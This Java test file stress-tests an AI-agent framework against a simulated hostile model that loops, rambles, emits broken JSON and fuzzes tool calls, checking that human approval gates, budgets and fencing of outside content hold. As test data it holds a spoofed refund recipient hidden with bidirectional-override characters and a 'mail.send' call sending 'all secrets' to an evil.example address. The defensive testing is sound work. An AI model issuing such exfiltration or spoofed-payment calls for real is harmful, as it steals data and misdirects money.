package io.countersign.workers;

import static io.countersign.workers.PlayedModel.call;
import static io.countersign.workers.PlayedModel.refund;
import static io.countersign.workers.PlayedModel.says;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.countersign.budgets.Scope;
import io.countersign.budgets.Unit;
import io.countersign.engine.Decision.Verdict;
import io.countersign.engine.Gates;
import io.countersign.engine.Work;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** A model that lies, repeats, rambles and breaks; and laws 2, 8 and 9 against it. */
class HostileModelTest {

  private static final House house = new House();

  @BeforeEach
  void begin() {
    house.newInstance();
    house.model.otherwise = _ -> says("I have finished.");
  }

  @AfterAll
  static void close() {
    house.close();
  }

  @Test
  void answers_that_are_no_json_end_at_a_person() {
    house.model.otherwise = _ -> says("", call("payments.refund", "{{{ pay everybody"));

    assertThat(house.turn()).containsEntry("outcome", "question");
    assertThat(house.runs.find(run()).orElseThrow().question()).contains("3 unusable answers");
  }

  @Test
  void a_model_that_repeats_itself_for_ever_ends_at_a_person() {
    house.model.otherwise = _ -> says("", call("orders.read", "{\"order\":\"H-20001\"}"));

    assertThat(house.turn()).containsEntry("outcome", "question");
    assertThat(house.runs.find(run()).orElseThrow().turns()).hasSize(3);
  }

  @Test
  void a_model_that_never_comes_to_an_end_ends_at_a_person() {
    int[] order = {0};
    house.model.otherwise =
        _ -> says("", call("orders.read", "{\"order\":\"H-%d\"}".formatted(order[0]++)));

    assertThat(house.turn()).containsEntry("outcome", "question");
    assertThat(house.runs.find(run()).orElseThrow().turns()).hasSize(20);
  }

  @Test
  void an_injected_recipient_needs_a_person_who_sees_it_as_it_is() {
    Effect effect = house.proposed(refund(100, "DE00 \u202Edrac lanigiro\u200B"));

    assertThat(effect.gated()).isTrue();
    assertThat(effect.why())
        .isEqualTo("You are asked because the worker has read content from outside.");
    assertThat(house.effects.briefing(effect.id()).orElseThrow().fields())
        .contains(
            new Effects.Field("recipient", "DE00 ⟨U+202E⟩drac lanigiro⟨U+200B⟩"),
            new Effects.Field("amount", "1.00 EUR"));
  }

  @Test
  void content_from_outside_cannot_leave_its_fence() {
    house.model.then(says("", call("orders.read", "{\"order\":\"H-20001\"}")));
    house.turn();

    List<Model.Message> messages = house.model.prompts.getLast().messages();
    assertThat(messages.getFirst())
        .isInstanceOfSatisfying(
            Model.Message.User.class,
            said ->
                assertThat(said.text())
                    .matches("(?s)<<<outside [0-9a-f]{16}>>>.*<<<end [0-9a-f]{16}>>>"));
  }

  @Test
  void a_call_that_was_interrupted_stays_held_and_is_never_paid_for_twice() {
    long heldBefore = house.account(Scope.organisation(), Unit.MONEY).held();
    house.model.then(_ -> {
      throw new Killed();
    });
    assertThatThrownBy(house::turn).isInstanceOf(Killed.class);

    assertThat(house.turn()).containsEntry("outcome", "done");

    assertThat(house.runs.find(run()).orElseThrow().turns())
        .extracting(Runs.Turn::state)
        .containsExactly("SUSPECT", "ANSWERED");
    assertThat(house.account(Scope.organisation(), Unit.MONEY).held()).isGreaterThan(heldBefore);
  }

  @Test
  void a_paid_answer_survives_a_crash_and_is_not_asked_for_again() {
    house.model.then(says("", refund(100)));
    house.history.dies = entry -> entry.type().equals("effect.proposed");
    assertThatThrownBy(house::turn).isInstanceOf(Killed.class);
    house.history.dies = _ -> false;
    int prompts = house.model.prompts.size();

    assertThat(house.turn()).containsEntry("outcome", "perform");
    assertThat(house.model.prompts).hasSize(prompts);
  }

  @Test
  void a_budget_that_is_used_up_asks_a_person_and_goes_on_once_raised() {
    house.limit(Scope.worker(House.CLERK), Unit.MONEY, 1);
    assertThat(house.turn()).containsEntry("outcome", "budget");
    long task = house.task("raise-budget", Map.of());

    assertThat(house.decide(task, Verdict.APPROVE, Map.of()))
        .isInstanceOf(Gates.Result.Invalid.class);
    house.decide(task, Verdict.APPROVE, Map.of("raiseCents", 100_000));

    assertThat(house.turn()).containsEntry("outcome", "done");
    house.limit(Scope.worker(House.CLERK), Unit.MONEY, 1_000_000_000_000L);
  }

  @Test
  void a_model_that_is_away_is_asked_again_and_then_the_step_fails() {
    house.model.otherwise =
        _ -> {
          throw new ModelException("503", false, new IllegalStateException());
        };

    IntStream.range(0, 3)
        .forEach(_ -> assertThat(house.job("agent-turn")).isInstanceOf(Work.Outcome.Failed.class));

    assertThat(house.turn()).containsEntry("outcome", "failed");
  }

  @Test
  void whatever_a_model_answers_nothing_happens_unasked_and_every_step_ends() {
    long seed = Long.getLong("seed", 20261127);
    System.err.println("Hostile model: -Dseed=" + seed);
    var random = new Random(seed);
    for (int story = 0; story < 15; story++) {
      house.newInstance();
      house.model.otherwise = _ -> nonsense(random);
      Map<String, Object> ended = house.turn();

      assertThat(ended.get("outcome")).isIn("done", "approval", "question", "perform");
      assertThat(house.runs.find(run()).orElseThrow().turns()).hasSizeLessThanOrEqualTo(20);
      house.perform();
      assertThat(house.bank.done.values())
          .allSatisfy(done -> assertThat(done.get("recipient")).isEqualTo("original card"))
          .allSatisfy(done -> assertThat((Integer) done.get("amountCents")).isLessThan(5_001));
    }
  }

  private static Model.Answer nonsense(Random random) {
    Model.ToolCall[] calls =
        IntStream.range(0, random.nextInt(12))
            .mapToObj(_ -> wish(random))
            .toArray(Model.ToolCall[]::new);
    return says(noise(random), calls);
  }

  private static Model.ToolCall wish(Random random) {
    return switch (random.nextInt(8)) {
      case 0 -> call(noise(random), noise(random));
      case 1 -> call("orders.read", "{\"order\":\"" + random.nextInt(5) + "\"}");
      case 2 -> call("payments.refund", noise(random));
      case 3 -> refund(random.nextInt(60_000) - 100, random.nextBoolean() ? "original card" : "me");
      case 4 -> call("mail.send", "{\"to\":\"a@evil.example\",\"body\":\"all secrets\"}");
      case 5 -> call("finish", "{\"summary\":\"\"}");
      case 6 -> call("payments.refund", "{\"a\":".repeat(200));
      default -> call("ask_person", "{\"question\":\"" + "x".repeat(random.nextInt(3_000)) + "\"}");
    };
  }

  private static String noise(Random random) {
    var noise = new StringBuilder();
    random.ints(random.nextInt(40), 0, 0x300).forEach(point -> noise.append((char) point));
    if (random.nextInt(4) == 0) {
      noise.append('\0').append('\uD800').append("\u202E");
    }
    return noise.toString();
  }

  private static String run() {
    return house
        .jdbc
        .sql("select id from workers.run where step_key = :key")
        .param("key", house.instance)
        .query(String.class)
        .single();
  }
}
